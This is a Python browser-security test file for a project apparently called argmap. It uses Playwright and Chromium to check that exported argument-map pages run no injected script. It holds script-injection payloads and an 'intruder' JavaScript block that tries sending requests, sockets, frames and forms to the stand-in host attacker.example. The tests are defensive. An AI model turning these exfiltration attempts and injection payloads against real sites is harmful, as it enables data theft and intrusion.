"""Attacks in files that a browser opens, in real Chromium: nothing of them runs, nothing is asked for."""

import shutil
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from argmap.datatypes import ArgumentMap
from argmap.formats import FORMATS

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: pip install -e '.[dev]'")
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: apt-get install chromium"),
]

FOREIGN = """() => [...document.querySelectorAll('*')].filter(element =>
    [...element.attributes].some(({name, value}) => name.startsWith('on')
        || (['href', 'src', 'action', 'data', 'xlink:href'].includes(name) && /attacker|script:/i.test(value)))
    || /^(IFRAME|OBJECT|EMBED|BASE|FRAME|IMG|VIDEO|AUDIO|MARQUEE|MATH|X)$/i.test(element.nodeName)
).map(element => element.outerHTML.slice(0, 200))"""
"""Elements that argmap's pages do not have, and those that run or load something."""


class Visit:
    """A page that was opened, and everything that it ran, asked for or popped up."""

    def __init__(self, page: Any, path: Path) -> None:
        self.page = page
        self.trouble: list[str] = []
        self.requests: list[Any] = []
        page.on("dialog", lambda dialog: (self.trouble.append(dialog.message), dialog.dismiss()))
        page.on("popup", lambda popup: self.trouble.append(popup.url))
        page.on("pageerror", lambda error: self.trouble.append(str(error)))
        page.on("console", lambda message: self.trouble.append(message.text))
        page.on("request", lambda request: self.requests.append(request))
        page.goto(path.as_uri())
        self.address = page.url

    @property
    def asked(self) -> list[str]:
        """The addresses that were asked for, whether anything let them through or not."""
        return [request.url for request in self.requests]

    def unharmed(self) -> bool:
        """Whether nothing of a stranger ran, and the page is still the one that was opened."""
        assert self.page.evaluate("() => window.ran") is None
        assert self.page.evaluate(FOREIGN) == []
        assert self.trouble == []
        assert self.asked == [self.address]
        return self.page.url.partition("#")[0] == self.address


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Chromium."""
    with playwright.sync_playwright() as driver:
        flags = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        chromium = driver.chromium.launch(executable_path=CHROMIUM, args=flags)
        yield chromium
        chromium.close()


@pytest.fixture
def opened(browser: Any, attacked_map: ArgumentMap, tmp_path: Path) -> Iterator[Callable[[str], Visit]]:
    """A function that exports the map of attacks and opens it."""
    context = browser.new_context(viewport={"width": 1280, "height": 800})

    def visit(name: str) -> Visit:
        path = tmp_path / f"attacked{FORMATS[name].suffix}"
        path.write_text(FORMATS[name].write(attacked_map), "utf-8")
        return Visit(context.new_page(), path)

    yield visit
    context.close()


def test_the_exported_page_shows_letters(opened: Any, attacked_map: ArgumentMap) -> None:
    """Every pane of an exported page, every tooltip and every button shows the attacks as they are written."""
    visit = opened("html")
    page = visit.page
    page.wait_for_selector("canvas")
    for button in page.query_selector_all("main button:not(.am-skip), .am button:not(.am-skip)")[:80]:
        if button.is_visible():
            button.click(timeout=2000)
    box = page.locator("canvas").first.bounding_box()
    for x in range(10):
        page.mouse.move(box["x"] + box["width"] * x / 10, box["y"] + box["height"] / 2)
        page.mouse.click(box["x"] + box["width"] * x / 10, box["y"] + box["height"] / 2)
    page.fill(".am-search", "<script>")
    page.keyboard.press("Tab")
    assert "<script>window.ran=1</script>" in page.inner_text("body")
    assert visit.unharmed()


INTRUDER = """async what => {
    const refused = new Promise(done => document.addEventListener('securitypolicyviolation', () => done('refused')));
    const element = (name, fields) => { document.body.append(Object.assign(document.createElement(name), fields)); };
    const tries = {
        'an image': () => element('img', {src: 'https://attacker.example/p.png'}),
        'a request': () => fetch('https://attacker.example/').catch(() => null),
        'a socket': () => new WebSocket('wss://attacker.example/'),
        'a frame': () => element('iframe', {src: 'https://attacker.example/'}),
        'a form': () => { element('form', {action: 'https://attacker.example/'}); document.forms[0].submit(); },
        'a script': () => element('script', {textContent: 'window.ran = 1'}),
        'a script from elsewhere': () => element('script', {src: 'data:text/javascript,window.ran=1'}),
        'words as code': () => setTimeout('window.ran = 1', 0),
        'a handler': () => { element('b', {}); const b = document.body.lastChild;
                             b.setAttribute('onclick', 'window.ran=1'); b.click(); },
        'a style': () => element('style', {textContent: 'body { opacity: 0 }'}),
        'a base': () => element('base', {href: 'https://attacker.example/'}),
    };
    try { tries[what](); } catch { return 'refused'; }
    return Promise.race([refused, new Promise(done => setTimeout(() => done('let through'), 3000))]);
}"""
"""What somebody would try whose script did get into the page."""


@pytest.mark.parametrize(
    "what",
    [
        *("an image", "a request", "a socket", "a frame", "a form", "a script", "a script from elsewhere"),
        *("words as code", "a handler", "a style", "a base"),
    ],
)
def test_the_exported_page_is_shut(opened: Any, what: str) -> None:
    """Even a script that did get in could load nothing, send nothing and run no words: the policy forbids it."""
    visit = opened("html")
    assert visit.page.evaluate(INTRUDER, what) == "refused"
    assert visit.page.evaluate("() => window.ran") is None
    assert visit.page.url == visit.address
    assert {request.failure for request in visit.requests if request.url != visit.address} <= {"csp"}


def test_the_picture_runs_nothing(opened: Any) -> None:
    """An SVG opened by itself, where scripts in it would run, runs and loads nothing."""
    visit = opened("svg")
    visit.page.mouse.move(300, 300)
    visit.page.mouse.click(300, 300)
    assert visit.page.evaluate("() => document.documentElement.nodeName") == "svg"
    assert visit.page.locator("script, a, image, foreignObject, use, animate").count() == 0
    assert visit.unharmed()


@pytest.mark.parametrize("name", ["json", "xaif", "jsonld", "markdown", "mermaid", "argdown"])
def test_other_files_are_no_pages(opened: Any, name: str) -> None:
    """A file of another format is shown as text or offered to be saved, never run."""
    with suppress(playwright.Error):  # Chromium stops opening what it saves
        visit = opened(name)
        assert visit.page.evaluate("() => window.ran") is None
        assert visit.trouble == []
        assert visit.asked == [visit.address]
